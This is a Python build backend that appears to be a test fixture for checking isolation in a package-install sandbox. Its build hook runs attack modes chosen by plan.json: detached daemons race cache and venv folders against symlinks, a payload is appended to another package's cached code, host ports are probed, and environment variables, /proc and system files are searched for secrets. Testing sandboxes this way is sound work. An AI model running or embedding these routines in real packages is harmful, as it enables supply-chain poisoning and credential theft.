"""A build backend is the package author's code, run while dependencies are installed. This
one does what `plan.json` beside it says (the tests write it), then builds its wheel or fails
with a report that lands in the build log:

- "swap": processes that outlive the backend exchange folders of the venv and the cache with
  symlinks to a host folder (renameat2 RENAME_EXCHANGE), in a loop, and leave symlinks to it;
- "poison": appends a payload to every unpacked `dytiny` in the cache, and drops more there;
- "net": tries to connect to each (host, port) and reports what happened;
- "secret": looks for a string in its environment, /proc/*/cmdline and environ, and the files
  it can read, and reports where it found it;
- "marker": writes a file at a host path (it exists only if this ran outside a view).
"""

import ctypes
import glob
import json
import os
import socket
import time
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
PLAN = json.loads((HERE / "plan.json").read_text()) if (HERE / "plan.json").exists() else {}
RENAME_EXCHANGE = 2
AT_FDCWD = -100


def _exchange(libc, a, b):
    return libc.renameat2(AT_FDCWD, a.encode(), AT_FDCWD, b.encode(), RENAME_EXCHANGE)


def _swap(plan):
    victim = plan["victim"]
    targets = []
    for base in [f"/dockyard/cache/gate-swap{n}" for n in range(8)] + [
            f"/dockyard/venv/share/gate-swap{n}" for n in range(2)]:
        os.makedirs(base + "/inner", exist_ok=True)
        for n in range(20):
            Path(base, f"f{n}").write_text("x")
            Path(base, "inner", f"g{n}").write_text("y")
        targets.append(base)
    for link in ("/dockyard/venv/gate-link", "/dockyard/venv/share/gate-link",
                 "/dockyard/cache/gate-link", "/dockyard/venv/share/gate-swap0/link"):
        os.symlink(victim, link)
    if plan.get("uv_dirs"):
        targets += [p for p in glob.glob("/dockyard/cache/*") if os.path.isdir(p)
                    and not os.path.islink(p) and "gate-" not in p]
    for target in targets:
        if os.fork() == 0:
            _daemon(victim, target, float(plan.get("seconds", 600)))


def _daemon(victim, target, seconds):
    """A process of its own per folder (it outlives the backend, and the build if it can),
    holding nothing of uv's pipes (uv would wait for their end): the folder is a symlink to
    the victim half of the time."""
    os.setsid()
    if os.fork():
        os._exit(0)
    devnull = os.open("/dev/null", os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(devnull, fd)
    os.closerange(3, 4096)
    libc = ctypes.CDLL(None, use_errno=True)
    link = target + ".swap"
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            os.symlink(victim, link)
        except OSError:
            pass
        _exchange(libc, link, target)
        time.sleep(0.001)
        _exchange(libc, link, target)
        time.sleep(0.001)
    os._exit(0)


def _poison(plan):
    payload = '\n\ndef shout(text):\n    return "PWNED by another tenant"\n'
    deadline = time.monotonic() + float(plan.get("seconds", 10))
    poisoned = []
    while time.monotonic() < deadline and not poisoned:
        for path in glob.glob("/dockyard/cache/**/dytiny/__init__.py", recursive=True):
            with open(path, "a") as f:
                f.write(payload)
            poisoned.append(path)
        time.sleep(0.05)
    for folder, _, _ in os.walk("/dockyard/cache"):
        try:
            Path(folder, "payload.pth").write_text("import os; os.environ['PWNED'] = '1'\n")
        except OSError:
            pass
    Path("/dockyard/cache/PAYLOAD").write_text(json.dumps(poisoned))


def _net(plan):
    results = {}
    for host, port in plan["targets"]:
        try:
            with socket.create_connection((host, port), timeout=3):
                results[f"{host}:{port}"] = "connected"
        except OSError as exc:
            results[f"{host}:{port}"] = type(exc).__name__
    return results


def _secret(plan):
    needle = plan["needle_reversed"][::-1].encode()
    found = []
    for key, value in os.environ.items():
        if needle in f"{key}={value}".encode():
            found.append(f"env:{key}")
    for path in glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/environ"):
        try:
            if needle in Path(path).read_bytes():
                found.append(path)
        except OSError:
            pass
    scanned = 0
    for top in ("/dockyard", "/tmp", "/etc", "/var", "/run", "/root", "/home"):
        for folder, _, files in os.walk(top):
            for name in files:
                path = os.path.join(folder, name)
                try:
                    if os.path.islink(path) or os.path.getsize(path) > 8 << 20:
                        continue
                    scanned += 1
                    if needle in Path(path).read_bytes():
                        found.append(path)
                except OSError:
                    pass
    return {"found": found, "scanned": scanned}


def _act():
    report = {"uid": os.getuid()}
    for mode in PLAN.get("modes", []):
        if mode == "swap":
            _swap(PLAN["swap"])
            time.sleep(float(PLAN["swap"].get("hold", 1.5)))
        elif mode == "poison":
            _poison(PLAN.get("poison", {}))
        elif mode == "net":
            report["net"] = _net(PLAN["net"])
        elif mode == "secret":
            report["secret"] = _secret(PLAN["secret"])
        elif mode == "marker":
            Path(PLAN["marker"]).write_text(str(os.getuid()))
    if PLAN.get("fail"):
        raise RuntimeError("BUILDREPORT " + json.dumps(report, sort_keys=True))


def get_requires_for_build_wheel(config_settings=None):
    return []


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    _act()
    dist = "gate-1.0.dist-info"
    files = {"gate/__init__.py": "VALUE = 42\n",
             f"{dist}/METADATA": "Metadata-Version: 2.1\nName: gate\nVersion: 1.0\n",
             f"{dist}/WHEEL": "Wheel-Version: 1.0\nGenerator: gate\nRoot-Is-Purelib: true\n"
                              "Tag: py3-none-any\n"}
    files[f"{dist}/RECORD"] = "".join(f"{p},,\n" for p in [*files, f"{dist}/RECORD"])
    name = "gate-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as zf:
        for path, text in files.items():
            zf.writestr(path, text)
    return name
